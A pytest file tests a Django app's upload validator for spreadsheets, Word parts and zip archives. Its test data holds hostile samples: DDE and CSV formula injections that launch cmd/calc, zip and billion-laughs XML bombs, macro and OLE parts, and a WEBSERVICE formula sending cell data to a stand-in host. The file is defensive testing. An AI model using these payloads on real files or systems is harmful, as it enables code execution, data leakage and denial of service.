"""Files of strangers in the office: one reader for every table, bombs stay in their child, nothing runs."""

import datetime
import io
import json
import random
import threading
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from openpyxl import Workbook
from openpyxl.chart import BarChart

from tests.greedy import take
from tests.web.conftest import NOW, People
from zhengheng.domain.apart import apart
from zhengheng.domain.problems import DataError, ZhenghengError
from zhengheng.scheme.load import load_rulebook
from zhengheng.scheme.save import save_folder
from zhengheng.web.files.models import StoredFile
from zhengheng.web.files.services import FileError, kind_of, take_in
from zhengheng.web.files.tables import rows_of
from zhengheng.web.organisation.models import Unit

HEAD = "/api/v1"
COLUMNS = {"code": "代码", "name_zh": "名称", "kind": "类别", "valid_from": "起"}


def sheet(rows: list[list[Any]], change: Callable[[Workbook], object] = id) -> bytes:
    book = Workbook()
    page = book.active
    assert page
    for row in rows:
        page.append(row)
    change(book)
    held = io.BytesIO()
    book.save(held)
    return held.getvalue()


UNITS = [["代码", "名称", "类别", "起"], ["T90", "甲局", "市直部门", "2025年1月1日"]]


def repacked(content: bytes, **parts: bytes | Callable[[bytes], bytes]) -> bytes:
    """A workbook with parts put in or changed; names have _ for / and . in their keys' place."""
    with zipfile.ZipFile(io.BytesIO(content)) as held:
        found = {name: held.read(name) for name in held.namelist()}
    for name, part in parts.items():
        found[name] = part(found[name]) if callable(part) else part
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as held:
        for name, part in found.items():
            held.writestr(name, part)
    return made.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def upload(client: Client, path: str, name: str, content: bytes) -> Any:
    held = io.BytesIO(content)
    held.name = name
    return client.post(HEAD + path, {"file": held})


def stray(place: str) -> Callable[[bytes], bytes]:
    row = "".join(filter(str.isdigit, place))
    cell = f'<row r="{row}"><c r="{place}" s="1"/></row></sheetData>'.encode()
    return lambda text: text.replace(b"</sheetData>", cell)


def strict(text: bytes) -> bytes:
    return text.replace(
        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
        b"http://purl.oclc.org/ooxml/spreadsheetml/main",
    )


def test_units_are_read_as_the_lake_reads(people: People) -> None:
    client = people.client("system_administrator")

    def shape(book: Workbook) -> None:
        page = book["Sheet"]
        page["A2"].number_format = "0000"
        page.sheet_state = "hidden"
        seen = book.create_sheet("单位")
        for row in ([*UNITS[0]], [12, "甲局", "市直部门", "2025/1/1"], [13, "乙局", "市直部门", datetime.date(2025, 1, 1)]):  # fmt: skip
            seen.append(row)
        seen["A2"].number_format = "0000"

    content = sheet([UNITS[0], [99, "旧局", "市直部门", ""]], shape)
    answer = upload(client, "/units-import", "u.xlsx", content)
    assert (answer.status_code, answer.content) == (200, b'{"rows": 2}')
    assert not Unit.objects.filter(code__in=("99", "0099", "12")).exists()
    held = dict(Unit.objects.filter(code__in=("0012", "13")).values_list("code", "valid_from"))
    assert held == dict.fromkeys(("0012", "13"), datetime.date(2025, 1, 1))
    text = "代码,名称,类别,起\nT91,龙门局,市直部门,2025年3月1日\n".encode("gb18030")
    assert upload(client, "/units-import", "u.csv", text).status_code == 200
    assert Unit.objects.get(code="T91").name_zh == "龙门局"


@pytest.mark.parametrize("cut", ["T92,丙局", "T92", "T92,丙局,市直部门,,多"])
def test_a_cut_row_or_a_strange_column_hides_no_other_fault(cut: str) -> None:
    text = f"代码,名称,类别,何物\n{cut}\nT91,乙局,市直部门,\nT90\n"
    with pytest.raises(DataError) as refused:
        rows_of("u.csv", text.encode(), COLUMNS)
    found = [(one.where, one.code) for one in refused.value.problems]
    assert found == [("u.csv:1", "table.header"), ("u.csv:2", "row.width"), ("u.csv:4", "row.width")]  # fmt: skip


def test_faults_of_a_table_stand_at_their_row(people: People) -> None:
    client = people.client("system_administrator")
    text = "代码,名称,类别,起\nT90,甲局,市直部门,\n,,,\n,,,\nT91,乙局,,2025\n"
    answer = upload(client, "/units-import", "u.csv", text.encode())
    places = {(one["where"], one["code"]) for one in answer.json()["problems"]}
    assert places == {("u.csv:5", "unit.empty"), ("u.csv:5", "unit.date")}
    rows = [UNITS[0], [], ["T90", "=1+1", "市直部门", ""], ["T91", "#N/A", "市直部门", ""]]
    found = upload(client, "/units-import", "u.xlsx", sheet(rows)).json()["problems"]
    assert [(one["where"], one["code"]) for one in found] == [("u.xlsx:3", "cell.formula"), ("u.xlsx:4", "cell.error")]  # fmt: skip


@pytest.mark.parametrize("place", ["A1048576", "XFD1", "XFD1048576"])
def test_a_stray_cell_costs_nothing(place: str) -> None:
    content = repacked(sheet(UNITS), **{SHEET: stray(place)})
    begun = time.monotonic()
    assert len(rows_of("u.xlsx", content, COLUMNS)) == 1
    assert time.monotonic() - begun < 10


def chart_first(book: Workbook) -> None:
    book.create_chartsheet("图", 0).add_chart(BarChart())


def laughs(text: bytes) -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    head = f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "haha">{entities}]>'.encode()
    body = text.split(b"?>", 1)[-1].replace(b"</sheetData>", b'<row r="3"><c r="A3" t="str"><v>&l11;</v></c></row></sheetData>')  # fmt: skip
    return head + body


def spread(text: bytes) -> bytes:
    row = b'<row r="%d"><c r="XFD%d" t="str"><v>x</v></c></row>'
    return text.replace(
        b"</sheetData>", b"".join(row % (n, n) for n in range(3, 5000)) + b"</sheetData>"
    )


BOMBS: dict[str, Callable[[], bytes]] = {
    "strict": lambda: repacked(sheet(UNITS), **dict.fromkeys((SHEET, "xl/workbook.xml"), strict)),
    "zip bomb": lambda: repacked(sheet(UNITS), **{SHEET: b" " * 60_000_000}),
    "billion laughs": lambda: repacked(sheet(UNITS), **{SHEET: laughs}),
    "shared strings": lambda: repacked(sheet(UNITS), **{"xl/sharedStrings.xml": b"<sst>" + b"<si><t>x</t></si>" * 5_000_000 + b"</sst>"}),
    "far columns": lambda: repacked(sheet(UNITS), **{SHEET: spread}),
    "broken": lambda: repacked(sheet(UNITS), **{SHEET: b"<worksheet"}),
    "nested": lambda: repacked(sheet(UNITS), **{SHEET: b"<a>" * 500_000}),
    "no sheet": lambda: repacked(sheet(UNITS), **{"xl/workbook.xml": lambda text: text.replace(b"<sheets>", b"<!--").replace(b"</sheets>", b"-->")}),
}  # fmt: skip


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_refused_with_words(name: str) -> None:
    with pytest.raises(DataError) as caught:
        rows_of("u.xlsx", BOMBS[name](), COLUMNS)
    (problem,) = caught.value.problems
    assert problem.where.startswith("u.xlsx")


def test_what_reads_strangers_files_has_bounds_of_memory_and_time() -> None:
    """A gigabyte ends the child and nothing else, and so does an endless loop; what is usual is let be."""
    assert list(apart(take, 200, name="u.xlsx")) == [200]
    for megabytes in (1100, 8000, -1):
        with pytest.raises(DataError) as caught:
            apart(take, megabytes, name="u.xlsx", seconds=4)
        (problem,) = caught.value.problems
        assert (problem.where, problem.code) == ("u.xlsx", "file.limits")


def test_a_chart_before_the_table_is_passed_by() -> None:
    assert rows_of("u.xlsx", sheet(UNITS, chart_first), COLUMNS)[0]["code"] == "T90"


def test_the_office_answers_while_a_bomb_is_read(people: People) -> None:
    content, refused = BOMBS["far columns"](), []

    def read() -> None:
        try:
            rows_of("u.xlsx", content, COLUMNS)
        except DataError as error:
            refused.append(error)

    client = people.client("system_administrator")
    client.get(f"{HEAD}/me")
    reader = threading.Thread(target=read)
    reader.start()
    slowest = 0.0
    while reader.is_alive():
        begun = time.monotonic()
        assert client.get(f"{HEAD}/me").status_code == 200
        slowest = max(slowest, time.monotonic() - begun)
    assert refused
    assert slowest < 1


def test_who_may_hand_in_nothing_makes_the_office_read_nothing(people: People) -> None:
    answer = upload(people.client("mentor"), "/reports-sheet", "r.xlsx", b"PK\x03\x04 no workbook")
    assert answer.status_code == 403
    answer = upload(people.client("unit_reporter"), "/reports-sheet", "r.xlsx", b"PK\x03\x04")
    assert (answer.status_code, answer.json()["type"]) == (422, "file.broken")


@pytest.mark.parametrize("name", ["填报表.csv", "a.pdf", "a.xlsx"])
def test_whoever_hands_in_no_workbook_is_not_sent_to_a_kind_that_is_not_taken(
    people: People, name: str
) -> None:
    for content in ("编号,版本\n1,2\n".encode(), b"%PDF-1.7\n"):
        answer = upload(people.client("unit_reporter"), "/reports-sheet", name, content)
        assert (answer.status_code, answer.json()["type"]) == (422, "sheet.kind")
        said = answer.content.decode()
        assert "csv" not in json.dumps(json.loads(said), ensure_ascii=False).replace(name, "")
        assert ".xlsx" in said


def test_a_rulebook_called_a_workbook_that_is_text_is_not_sent_to_csv(tmp_path: Path) -> None:
    path = tmp_path / "方案.xlsx"
    path.write_text("代码,名称\n", encoding="utf-8")
    with pytest.raises(ZhenghengError) as refused:
        load_rulebook(path)
    (problem,) = refused.value.problems
    assert "csv" not in problem.zh + problem.en
    assert ".xlsx" in problem.zh


def rulebook_zip(folder: Path, **parts: str) -> bytes:
    book = load_rulebook(Path(__file__).parents[2] / "examples" / "part" / "rulebook")[0]
    save_folder(book, folder / "book")
    for name, text in parts.items():
        (folder / "book" / f"{name}.yaml").write_text(text)
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted((folder / "book").rglob("*.yaml")):
            archive.write(path, path.relative_to(folder))
    return held.getvalue()


RULEBOOK_BOMBS = {
    "brackets": "code: " + "[" * 100_000,
    "braces": "code: " + "{a: " * 900,
    "closed": "code: " + "[" * 2000 + "]" * 2000,
    "unknown keys": "".join(f"k{n}: 1\n" for n in range(400_000)),
    "numbered keys": "".join(f"key{n}: {n}\n" for n in range(250_000)),
    "a list": "code: [" + "1, " * 1_600_000 + "]",
}


@pytest.mark.parametrize("name", RULEBOOK_BOMBS)
def test_a_rulebook_that_is_a_bomb_is_refused(name: str, people: People, tmp_path: Path) -> None:
    client = people.client("office_indicators")
    content = rulebook_zip(tmp_path, rulebook=RULEBOOK_BOMBS[name])
    number = upload(client, "/files", "b.zip", content).json()["id"]
    body = {"file": number, "period": "2025", "reason": ""}
    begun = time.monotonic()
    answer = client.post(f"{HEAD}/rulebooks/draft", body, content_type="application/json")
    assert answer.status_code == 422, answer.content[:300]
    assert len(answer.json()["problems"]) <= 210
    assert "file.limits" not in {one["code"] for one in answer.json()["problems"]}, (
        "refused before it is worked on"
    )
    assert time.monotonic() - begun < 60


def test_a_rulebook_without_its_main_file_is_named_as_it_was_uploaded(people: People) -> None:
    """Not by the place where this machine unpacked it."""
    client, packed = people.client("office_indicators"), io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("town/notes.yaml", "a: 1")
    number = upload(client, "/files", "b.zip", packed.getvalue()).json()["id"]
    body = {"file": number, "period": "2025", "reason": ""}
    answer = client.post(f"{HEAD}/rulebooks/draft", body, content_type="application/json")
    assert answer.status_code == 422
    (problem,) = answer.json()["problems"]
    assert (problem["where"], problem["code"]) == ("b.zip", "rulebook.absent")


def test_an_upload_belongs_to_whoever_made_it(people: People, tmp_path: Path) -> None:
    other = take_in(name="b.zip", content=rulebook_zip(tmp_path), actor=people["mentor"], now=NOW)
    client = people.client("office_indicators")
    for role, path, more in (
        ("office_indicators", "rulebooks/draft", {"period": "2025", "reason": ""}),
        ("office_procedure", "calendars/load", {"source": "国办通知"}),
    ):
        body = {"file": other.pk, **more}
        answer = people.client(role).post(f"{HEAD}/{path}", body, content_type="application/json")
        assert (answer.status_code, answer.json()["type"]) == (422, "file.absent"), answer.content
    own = take_in(name="b.zip", content=rulebook_zip(tmp_path), actor=people["office_indicators"], now=NOW)  # fmt: skip
    body = {"file": own.pk, "period": "2007", "reason": ""}
    assert client.post(f"{HEAD}/rulebooks/draft", body, content_type="application/json").status_code == 201  # fmt: skip


TYPES, RELS = "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64
PADDING = random.Random(7).randbytes(2**12) * (21 * 2**8)
"""More than is looked at of one packed file in an archive; packed it is small enough to be sent."""


def related(kind: str, target: str, mode: str = "") -> Callable[[bytes], bytes]:
    head = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    line = f'<Relationship Id="rX" Type="{head}{kind}" Target="{target}"{mode}/></Relationships>'
    return lambda text: text.replace(b"</Relationships>", line.encode())


def formula(text: str) -> Callable[[bytes], bytes]:
    cell = f'<row r="90"><c r="A90"><f>{text}</f><v>0</v></c></row></sheetData>'
    return lambda sheet: sheet.replace(b"</sheetData>", cell.encode())


ACTIVE: dict[str, dict[str, bytes | Callable[[bytes], bytes]]] = {
    "macros": {"xl/vbaProject.bin": OLE},
    "macros by another name": {"xl/printer.bin": OLE},
    "a macro's type": {TYPES: lambda t: t.replace(b"spreadsheetml.sheet.main+xml", b"x").replace(b"application/vnd.openxmlformats-officedocument.x", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")},
    "a macro sheet": {RELS: related("xlMacrosheet", "macrosheets/sheet1.xml")},
    "an outside workbook": {RELS: related("externalLink", "externalLinks/externalLink1.xml")},
    "an outside template": {RELS: related("attachedTemplate", "http://elsewhere.example/t.dotm", ' TargetMode="External"')},
    "an outside picture": {RELS: related("image", "http://elsewhere.example/p.png", ' TargetMode="External"')},
    "an object": {"xl/embeddings/o1.bin": OLE, RELS: related("oleObject", "embeddings/o1.bin")},
    "macros behind much else": {"xl/vbaProject.bin": OLE, "xl/media/p.bin": PADDING},
    "macros by another name behind much else": {"xl/printer.bin": OLE, "xl/media/p.bin": PADDING},
    "a connection": {RELS: related("connections", "connections.xml")},
    "a connection by its type": {TYPES: lambda t: t.replace(b"</Types>", b'<Override PartName="/xl/c.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>')},
    "a connection that nothing names": {"xl/connections.xml": b"<connections><connection><dbPr connection='Provider=x' command='select'/></connection></connections>"},
    "a query table": {"xl/queryTables/queryTable1.xml": b"<queryTable/>"},
    "a query table by its relation": {RELS: related("queryTable", "q.xml")},
    "a query of its own": {"customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'.encode("utf-16")},
    "a program": {"xl/worksheets/sheet1.xml": formula("cmd|' /C calc'!A0")},
    "a program by a number": {"xl/worksheets/sheet1.xml": formula("cmd&#124;'/C calc'!A0")},
    "a quoted program": {"xl/worksheets/sheet1.xml": formula("1+'cmd'|'/C calc.exe'!'A0'")},
    "a program in a section": {"xl/worksheets/sheet1.xml": formula("<![CDATA[MSEXCEL|'\\..\\cmd.exe'!'']]>")},
    "a program behind a name": {"xl/workbook.xml": lambda t: t.replace(b"</workbook>", b"<definedNames><definedName name='x'>cmd|'/C calc'!A0</definedName></definedNames></workbook>")},
    "a page of the web": {"xl/worksheets/sheet1.xml": formula('_xlfn.WEBSERVICE("http://elsewhere.example/"&amp;A1)')},
    "a program in a document's field": {"word/document.xml": b"<w:p><w:instrText xml:space='preserve'> DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe </w:instrText></w:p>"},
    "a program in a simple field": {"word/document.xml": b'<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe "/>'},
    "a picture from elsewhere in a field": {"word/document.xml": b'<w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDE</w:instrText><w:instrText>PICTURE "http://elsewhere.example/a.png" </w:instrText>'},
    "a text from a share": {"word/document.xml": b'<w:instrText> PAGE </w:instrText><w:fldChar/><w:instrText> INCLUDETEXT "\\\\\\\\elsewhere\\\\a.docx" </w:instrText>'},
    "a sheet from elsewhere in a field": {"word/header1.xml": b'<w:fldSimple w:instr=" LINK Excel.Sheet.12 a.xlsx "/>'},
    "a share behind a field to follow": {"word/document.xml": b'<w:instrText> HYPERLINK "\\\\\\\\elsewhere\\\\s" </w:instrText>'},
    "a page for a part": {"word/document.xml": b'<w:body><w:altChunk r:id="rId9"/></w:body>', "word/page.html": b"<html/>"},
    "a page for a part by its relation": {RELS: related("aFChunk", "afchunk.mht")},
    "a workbook on a share": {"xl/worksheets/sheet1.xml": formula("'\\\\elsewhere\\s\\[b.xlsx]S'!A1")},
    "a workbook on a disk": {"xl/worksheets/sheet1.xml": formula("SUM('C:\\s\\[b.xlsx]S'!A1:A9)")},
    "a file behind a formula to follow": {"xl/worksheets/sheet1.xml": formula('HYPERLINK("file:///c:/windows/calc.exe","见")')},
    "a file behind a link": {RELS: related("hyperlink", "file:///c:/windows/calc.exe", ' TargetMode="External"')},
    "a share behind a link": {RELS: related("hyperlink", "%5c%5celsewhere\\s", ' TargetMode="External"')},
    "a disk behind a link": {RELS: related("hyperlink", "c:\\windows\\calc.exe", ' TargetMode="External"')},
    "a macro sheet that nothing names": {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"},
    "a control that nothing names": {"xl/activeX/activeX1.xml": b"<ax:ocx/>"}, "an extension of the web": {"xl/webextensions/webextension1.xml": b"<we:webextension/>"},
    "buttons of its own": {"customUI/customUI14.xml": b"<customUI/>"}, "buttons by their relation": {RELS: related("ui/extensibility", "x.xml")},
    "UTF-16": {RELS: lambda t: related("oleObject", "o.bin")(t).decode().encode("utf-16")},
}  # fmt: skip


TYPES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
PROLOG = b"<?xml version='1.0' encoding='UTF-8'?>"


def typed(text: bytes) -> bytes:
    """XML with a document type before its first element."""
    return (
        PROLOG
        + b"<!-- <a> -->\n"
        + TYPES
        + text.removeprefix(text[: text.find(b"?>") + 2] if text.startswith(b"<?xml") else b"")
    )


DECLARING = {
    "in a sheet": {"xl/worksheets/sheet1.xml": typed},
    "in the workbook": {"xl/workbook.xml": typed},
    "in relations": {RELS: typed},
    "in texts of its own": {"docProps/app.xml": PROLOG + TYPES + b"<x>&b;</x>"},
    "in UTF-16": {"docProps/app.xml": (TYPES + b"<x/>").decode().encode("utf-16")},
    "in another encoding": {"docProps/app.xml": b"<?xml version='1.0' encoding='GB18030'?>" + TYPES + b"<x/>"},
}  # fmt: skip


@pytest.mark.parametrize("name", DECLARING)
def test_an_office_file_that_declares_types_is_taken_at_no_door(name: str) -> None:
    content = repacked(sheet(UNITS), **DECLARING[name])
    with pytest.raises(FileError) as caught:
        kind_of("u.xlsx", content)
    assert [problem.code for problem in caught.value.problems] == ["file.doctype"]
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("证据.xlsx", content)
    with pytest.raises(FileError):
        kind_of("证据.zip", packed.getvalue())
    with pytest.raises(DataError) as refused:
        rows_of("u.xlsx", content, COLUMNS)
    assert [problem.code for problem in refused.value.problems] == ["file.doctype"]
    assert kind_of("u.xlsx", sheet(UNITS)) == "xlsx"


@pytest.mark.parametrize(
    "text",
    [
        PROLOG + b"<!-- " + random.Random(1).randbytes(2_000_000).hex().encode() + b" -->" + TYPES + b"<x/>",
        random.Random(2).randbytes(2_000_000).hex().encode(),
    ],
    ids=["types after a long remark", "no element at all"],
)  # fmt: skip
def test_an_office_file_whose_elements_begin_too_far_is_refused(text: bytes) -> None:
    """What stands before the first element is read to a bound: a parser may read a long word anew with each part."""
    content = repacked(sheet(UNITS), **{"docProps/app.xml": text})
    with pytest.raises(FileError) as caught:
        kind_of("u.xlsx", content)
    assert [problem.code for problem in caught.value.problems] == ["file.broken"]
    with pytest.raises(DataError) as refused:
        rows_of("u.xlsx", content, COLUMNS)
    assert [problem.code for problem in refused.value.problems] == ["file.broken"]


@pytest.mark.parametrize("name", ACTIVE)
def test_what_runs_or_reaches_out_is_refused(name: str) -> None:
    with pytest.raises(FileError) as caught:
        kind_of("u.xlsx", repacked(sheet(UNITS), **ACTIVE[name]))
    assert [problem.code for problem in caught.value.problems] == ["file.macro"]
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("证据.xlsx", repacked(sheet(UNITS), **ACTIVE[name]))
    with pytest.raises(ZhenghengError):
        kind_of("e.zip", packed.getvalue())
    with pytest.raises(ZhenghengError):
        kind_of("e.zip", archive_of(**{"更深.zip": packed.getvalue()}))


def archive_of(**files: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return held.getvalue()


@pytest.mark.parametrize(
    ("inner", "code"),
    [
        (b"PK\x03\x04" + PADDING, "file.inner"),
        (b"PK\x03\x04 and no archive", "file.broken"),
        (sheet(UNITS)[:-40], "file.broken"),
    ],
    ids=["too large", "no archive", "cut off"],
)
def test_what_cannot_be_looked_at_inside_an_archive_is_refused(inner: bytes, code: str) -> None:
    with pytest.raises(FileError) as caught:
        kind_of("e.zip", archive_of(**{"证据.xlsx": inner}))
    assert [problem.code for problem in caught.value.problems] == [code]
    whole = archive_of(**{"证据.xlsx": sheet(UNITS)})
    assert kind_of("e.zip", archive_of(**{"更深.zip": whole})) == "zip"


@pytest.mark.parametrize(
    "text", ["SUM(A1:A2)", '"甲|乙"&amp;A1', "'收|支'!A1", 'IF(A1="cmd|x!y",1,0)', 'HYPERLINK("http://example.org/","见")'],
)  # fmt: skip
def test_a_formula_that_starts_nothing_is_taken(text: str) -> None:
    content = repacked(sheet(UNITS), **{"xl/worksheets/sheet1.xml": formula(text)})
    assert kind_of("u.xlsx", content) == "xlsx"
    shared = '<c r="A91" t="str"><f t="shared" si="0"/><v>甲|乙</v></c>'
    row = formula(f'1</f></c>{shared}<c r="B90"><f>1')
    assert kind_of("u.xlsx", repacked(sheet(UNITS), **{"xl/worksheets/sheet1.xml": row})) == "xlsx"


@pytest.mark.parametrize("cell", ["=cmd|'/C calc'!A0", "\"=cmd|' /C calc'!A0\"", "@SUM(1)*cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0"])  # fmt: skip
@pytest.mark.parametrize("name", ["证据.csv", "证据.TSV"])
def test_a_table_in_plain_text_starts_nothing_either(name: str, cell: str) -> None:
    with pytest.raises(FileError, match="starts a program"):
        kind_of(name, f"单位,数值\n甲,{cell}\n".encode())
    assert kind_of(name, "单位,数值\n甲,-3\n=注：a|b,+5\n@乙!,1\n".encode()) == "text"


def test_a_plain_workbook_with_a_link_to_follow_is_taken(people: People) -> None:
    link = related("hyperlink", "http://example.org/", ' TargetMode="External"')
    content = repacked(sheet(UNITS), **{RELS: link})
    assert kind_of("u.xlsx", content) == "xlsx"
    for target in ("附件1.docx", "mailto:office@example.org", "#Sheet1!A1"):
        beside = related("hyperlink", target, ' TargetMode="External"')
        assert kind_of("u.xlsx", repacked(sheet(UNITS), **{RELS: beside})) == "xlsx"
    fields = b'<w:fldChar/><w:instrText> HYPERLINK "http://example.org/link" \\l "database" </w:instrText><w:fldChar/><w:instrText> TOC \\o "1-3" </w:instrText>'
    assert kind_of("u.xlsx", repacked(sheet(UNITS), **{"word/footer1.xml": fields})) == "xlsx"
    old = io.BytesIO()
    with zipfile.ZipFile(old, "w") as archive:
        archive.writestr("记录.doc", OLE)
    assert kind_of("e.zip", old.getvalue()) == "zip"
    assert not StoredFile.objects.exists()
